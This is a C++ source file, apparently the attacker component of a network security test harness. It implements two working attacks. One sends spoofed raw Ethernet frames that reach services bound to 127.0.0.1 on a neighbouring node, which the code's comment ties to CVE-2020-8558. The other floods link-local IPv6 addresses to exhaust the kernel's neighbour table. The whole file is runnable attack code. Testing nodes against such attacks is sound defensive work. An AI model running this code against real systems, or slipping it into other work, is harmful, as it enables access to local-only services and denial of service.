// SPDX-License-Identifier: Apache-2.0
// Packets that the node did not ask for. CVE-2020-8558: a frame to its link address whose packet is for 127.0.0.1.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <iostream>

#include "attacker.h"

namespace attacker {
namespace {

struct Frame {
  ether_header link;
  iphdr network;
  udphdr transport;
  char text[8];
} __attribute__((packed));

uint16_t Sum(const void* data, size_t size) {
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < size; i += 2) {
    uint16_t word;
    std::memcpy(&word, static_cast<const char*>(data) + i, 2);
    sum += word;
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

}  // namespace

int Martian(const Words& words) {
  if (words.size() < 4) return 2;
  const int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  ifreq request{};
  std::snprintf(request.ifr_name, sizeof request.ifr_name, "%s", words[0].c_str());
  if (fd < 0 || ::ioctl(fd, SIOCGIFINDEX, &request) != 0) {
    std::cout << "socket " << Outcome(-1) << std::endl;
    return 0;
  }
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = request.ifr_ifindex;
  to.sll_halen = ETH_ALEN;
  Frame frame{};
  unsigned mac[6] = {};
  if (std::sscanf(words[1].c_str(), "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4,
                  mac + 5) != 6) {
    return 2;
  }
  for (int i = 0; i < 6; ++i) frame.link.ether_dhost[i] = static_cast<uint8_t>(mac[i]);
  if (::ioctl(fd, SIOCGIFHWADDR, &request) != 0) return 1;
  std::memcpy(frame.link.ether_shost, request.ifr_hwaddr.sa_data, 6);
  frame.link.ether_type = htons(ETHERTYPE_IP);
  frame.network.version = 4;
  frame.network.ihl = 5;
  frame.network.ttl = 64;
  frame.network.protocol = IPPROTO_UDP;
  frame.network.tot_len = htons(sizeof frame - sizeof frame.link);
  frame.transport.source = htons(40000);
  frame.transport.dest = htons(static_cast<uint16_t>(std::stoi(words[3])));
  frame.transport.len = htons(sizeof frame.transport + sizeof frame.text);
  std::memcpy(frame.text, "MARTIAN", sizeof frame.text);
  ::inet_pton(AF_INET, words[2].c_str(), &frame.network.daddr);
  // From its own address, from the loopback and from the destination itself.
  if (::ioctl(fd, SIOCGIFADDR, &request) != 0) return 1;
  in_addr own{};
  std::memcpy(&own, request.ifr_addr.sa_data + 2, sizeof own);
  int sent = 0;
  for (const uint32_t source : {own.s_addr, htonl(0x7f000001u), frame.network.daddr}) {
    frame.network.saddr = source;
    frame.network.check = 0;
    frame.network.check = Sum(&frame.network, sizeof frame.network);
    sent += ::sendto(fd, &frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0;
  }
  std::cout << "done " << sent << std::endl;
  return 0;
}

// Each of them keeps a place of the kernel's table of neighbours while its address is asked for. Of a socket a few
// hundred datagrams may wait for that.
int Neighbours(const Words& words) {
  using Clock = std::chrono::steady_clock;
  if (words.size() != 2) return 2;
  std::array<int, 400> sockets{};
  for (int& fd : sockets) fd = ::socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  sockaddr_in6 to{};
  to.sin6_family = AF_INET6;
  to.sin6_port = htons(9);
  to.sin6_scope_id = ::if_nametoindex(words[1].c_str());
  ::inet_pton(AF_INET6, "fe80::", &to.sin6_addr);
  const auto end = Clock::now() + std::chrono::seconds(std::stol(words[0]));
  uint32_t number = 0;
  long sent = 0;
  while (Clock::now() < end) {
    const uint32_t low = htonl(++number);
    std::memcpy(to.sin6_addr.s6_addr + 12, &low, sizeof low);
    const int fd = sockets[number % sockets.size()];
    sent += ::sendto(fd, "x", 1, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0;
  }
  std::cout << "done " << sent << std::endl;
  return 0;
}

}  // namespace attacker
